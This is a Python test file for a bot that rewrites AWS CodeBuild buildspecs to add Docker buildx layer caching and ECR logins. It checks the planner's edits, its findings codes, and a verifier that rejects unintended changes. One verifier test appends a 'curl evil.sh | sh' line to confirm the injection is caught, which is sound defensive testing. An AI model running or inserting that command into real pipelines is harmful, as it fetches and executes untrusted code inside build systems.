"""Planner behaviour on focused buildspecs: what is added, where, and when a file is left alone."""

from __future__ import annotations

from buildspec_support import plan_snapshot, plan_text

from bot.core.buildspec.plan import verify_buildspec_edit
from bot.core.model import Options, RepoSnapshot

LOGIN = (
    "aws ecr get-login-password --region $AWS_DEFAULT_REGION | docker login --username AWS "
    "--password-stdin $AWS_ACCOUNT_ID.dkr.ecr.$AWS_DEFAULT_REGION.amazonaws.com"
)


def spec(build: str = "docker build -t $REPO:latest .", pre: str = LOGIN, env: str = "") -> str:
    return (
        f"version: 0.2\n{env}phases:\n  pre_build:\n    commands:\n      - {pre}\n"
        f"  build:\n    commands:\n      - {build}\n      - docker push $REPO:latest\n"
    )


def only_edit(text: str, **kw: object) -> str:
    _, part = plan_text(text, **kw)  # type: ignore[arg-type]
    (edit,) = part.edits
    assert verify_buildspec_edit(text, edit.content) is None
    return edit.content


def codes(text: str, **kw: object) -> set[str]:
    _, part = plan_text(text, **kw)  # type: ignore[arg-type]
    return {f.code for f in part.findings}


def test_options_shape_the_added_lines() -> None:
    out = only_edit(
        spec(),
        options=Options(
            region="eu-central-1",
            cache_repository="team/cache",
            builder_image="public.ecr.aws/vend/moby/buildkit:buildx-stable-1",
            mode="min",
            cache_tag="main",
            builder_name="warm",
        ),
    )
    assert 'CACHE_REPO_NAME: "team/cache"' in out
    assert "- CACHE_URI=$AWS_ACCOUNT_ID.dkr.ecr.eu-central-1.amazonaws.com/$CACHE_REPO_NAME\n" in out
    assert (
        "- docker buildx create --name warm --driver docker-container --driver-opt "
        "image=public.ecr.aws/vend/moby/buildkit:buildx-stable-1 --use --bootstrap || "
        "docker buildx inspect --bootstrap warm && docker buildx use warm || {" in out
    )
    # The only later use of the image is `docker push` of its tag: the build pushes it itself.
    assert (
        "ref=$CACHE_URI:main,mode=min,image-manifest=true,oci-mediatypes=true,ignore-error=true} --push "
        "--provenance=false -t"
    ) in out
    # The existing login is for $AWS_DEFAULT_REGION, not the configured region: log in to the cache registry.
    assert (
        "aws ecr get-login-password --region eu-central-1 | docker login --username AWS --password-stdin "
        "$AWS_ACCOUNT_ID.dkr.ecr.eu-central-1.amazonaws.com"
    ) in out


def test_invalid_cache_repository_falls_back_with_a_finding() -> None:
    _, part = plan_text(spec(), options=Options(cache_repository="Bad_Name!"))
    assert 'CACHE_REPO_NAME: "ecr-build-cache"' in part.edits[0].content
    assert "cache-repository-invalid" in {f.code for f in part.findings}


def test_account_id_from_env_or_earlier_command_is_not_derived_again() -> None:
    env = 'env:\n  variables:\n    AWS_ACCOUNT_ID: "123456789012"\n'
    assert "CODEBUILD_BUILD_ARN" not in only_edit(spec(env=env))
    pre = "AWS_ACCOUNT_ID=$(aws sts get-caller-identity --query Account --output text) && " + LOGIN
    assert "CODEBUILD_BUILD_ARN" not in only_edit(spec(pre=pre))
    secret = 'env:\n  secrets-manager:\n    AWS_ACCOUNT_ID: "arn:aws:secretsmanager:x:y:secret:z:ID"\n'
    assert "CODEBUILD_BUILD_ARN" not in only_edit(spec(env=secret))


def test_hard_coded_registry_login_gets_a_cache_login_too() -> None:
    pre = (
        "aws ecr get-login-password --region us-east-1 | docker login --username AWS --password-stdin "
        "123456789012.dkr.ecr.us-east-1.amazonaws.com"
    )
    out = only_edit(spec(pre=pre))
    assert out.count("docker login") == 2
    assert out.index("- AWS_ACCOUNT_ID=") < out.index("$AWS_ACCOUNT_ID.dkr.ecr.$AWS_DEFAULT_REGION")


def test_get_login_inside_a_block_scalar_is_replaced_in_place() -> None:
    pre = "|\n        set -e\n        $(aws ecr get-login --no-include-email --region $AWS_REGION)\n        echo ok"
    out = only_edit(spec(pre=pre))
    assert (
        "        aws ecr get-login-password --region $AWS_REGION | docker login --username AWS "
        "--password-stdin $AWS_ACCOUNT_ID.dkr.ecr.$AWS_REGION.amazonaws.com\n        echo ok\n"
    ) in out
    assert "get-login " not in out


def test_findings_for_flags_the_bot_keeps_or_cannot_see() -> None:
    assert "no-cache" in codes(spec(build="docker build --no-cache -t x ."))
    assert "build-flags-variable" in codes(spec(build="docker build $BUILD_OPTS -t x ."))
    assert "cache-from-replaced" in codes(spec(build="docker build --cache-from x:latest -t x ."))
    out = only_edit(spec(build="docker buildx build --push -t x ."))
    assert "--load" not in out and "--push -t x ." in out


def test_unsupported_inputs_are_left_untouched_with_a_reason() -> None:
    flow = "version: 0.2\nphases:\n  build:\n    commands: [docker build -t x .]\n"
    _, part = plan_text(flow)
    assert part.edits == () and "flow sequence" in " ".join(f.message for f in part.findings)
    tabs = "version: 0.2\nphases:\n  build:\n    commands:\n\t- docker build -t x .\n"
    found, part = plan_text(tabs)
    assert part.edits == ()
    alias = (
        "version: 0.2\nphases:\n  pre_build:\n    commands: &same\n      - docker build -t x .\n"
        "  build:\n    commands: *same\n"
    )
    _, part = plan_text(alias)
    assert part.edits == ()
    assert {"buildspec-edit-unproven", "buildspec-unsupported"} & {f.code for f in part.findings}
    broken = "version: 0.2\nphases:\n  build:\n    commands:\n      - docker build -t x .\n   - oops: [\n"
    found, part = plan_text(broken)
    assert part.edits == () and any(f.code == "not-a-buildspec" for f in found.findings)


def test_chained_local_base_image_is_refused() -> None:
    text = spec(build="docker build -t base:1 -f base/Dockerfile .\n      - docker build -t app:1 -f app/Dockerfile .")
    snap = RepoSnapshot(
        ("buildspec.yml", "base/Dockerfile", "app/Dockerfile"),
        {"buildspec.yml": text, "base/Dockerfile": "FROM python:3.12\n", "app/Dockerfile": "FROM base:1\nCOPY . .\n"},
    )
    _, part = plan_snapshot(snap)
    assert part.edits == ()
    assert "local-base-image" in {f.code for f in part.findings}


def test_dockerhub_push_is_reported() -> None:
    text = spec(build="docker build -t $DOCKERHUB_USERNAME/app:latest .").replace(
        "docker push $REPO:latest", "docker push $DOCKERHUB_USERNAME/app:latest"
    )
    assert "dockerhub-push" in codes(text)


def test_links_follow_cd_across_phases_and_name_unresolved_variables() -> None:
    text = (
        "version: 0.2\nenv:\n  variables:\n    SVC: api\nphases:\n  install:\n    commands:\n"
        "      - cd services\n  build:\n    commands:\n      - docker build -f $SVC/Dockerfile -t a .\n"
        "      - cd $UNKNOWN && docker build -t b .\n"
    )
    _, part = plan_text(text, paths=("services/api/Dockerfile",))
    first, second = part.builds
    assert (first.phase, first.command_index, first.line) == ("build", 0, 11)
    assert (first.dockerfile, first.context) == ("services/api/Dockerfile", "services")
    assert second.dockerfile is None and second.unresolved == ("UNKNOWN",)
    assert first.cache_tag != second.cache_tag
    assert any(f.code == "build-path-unresolved" and "UNKNOWN" in f.message for f in part.findings)


def test_several_buildspecs_never_share_a_cache_tag() -> None:
    files = {p: spec() for p in ("ci/dev-buildspec.yml", "ci/prod-buildspec.yml", "buildspec.yml")}
    _, part = plan_snapshot(RepoSnapshot((*files, "Dockerfile"), files))
    tags = [b.cache_tag for b in part.builds]
    assert len(tags) == 3 and len(set(tags)) == 3
    assert all(t.startswith("cache-") for t in tags)


def test_verify_rejects_anything_but_the_intended_change() -> None:
    # A later `docker run` keeps `--load` and the push line (only-pushed images switch to `--push`).
    before = spec().replace(
        "      - docker push $REPO:latest\n",
        "      - docker push $REPO:latest\n      - docker run --rm $REPO:latest true\n",
    )
    after = only_edit(before)
    assert verify_buildspec_edit(before, after) is None
    assert verify_buildspec_edit(before, after.replace("docker push $REPO:latest", "docker push $REPO:v2"))
    assert verify_buildspec_edit(before, after.replace("- docker push $REPO:latest\n", ""))
    assert verify_buildspec_edit(before, after.replace("--load -t", "--load --no-cache -t"))
    assert verify_buildspec_edit(before, after.replace('"ecr-build-cache"', '"Not Valid"'))
    assert verify_buildspec_edit(before, after.replace("version: 0.2", "version: 0.1"))
    assert verify_buildspec_edit(before, after + "      - curl evil.sh | sh\n")
    assert verify_buildspec_edit(before, after.replace("phases:", "phases: [")) is not None


def test_no_build_means_no_edit() -> None:
    text = "version: 0.2\nphases:\n  build:\n    commands:\n      - npm test\n"
    _, part = plan_text(text)
    assert part.edits == () and part.builds == ()


def test_compose_builds_after_the_builder_switch_are_reported() -> None:
    text = spec().replace(
        "      - docker push $REPO:latest\n",
        "      - docker compose -f test.yml build\n      - docker push $REPO:latest\n",
    )
    assert "builder-switch" in codes(text)
    assert "builder-switch" not in codes(spec())


def test_literal_region_of_the_own_account_login_is_reused() -> None:
    pre = "$(aws ecr get-login --region eu-central-1 --no-include-email)"
    out = only_edit(spec(pre=pre))
    assert "- CACHE_URI=$AWS_ACCOUNT_ID.dkr.ecr.eu-central-1.amazonaws.com/$CACHE_REPO_NAME\n" in out
    assert out.count("docker login") == 1


def test_flow_style_env_is_left_alone() -> None:
    _, part = plan_text(spec(env="env: {variables: {A: b}}\n"))
    assert part.edits == ()
    assert any(f.code == "buildspec-unsupported" and "`env`" in f.message for f in part.findings)


def test_own_builder_is_reported() -> None:
    assert "own-builder" in codes(spec(build="docker buildx build --builder fast -t x ."))
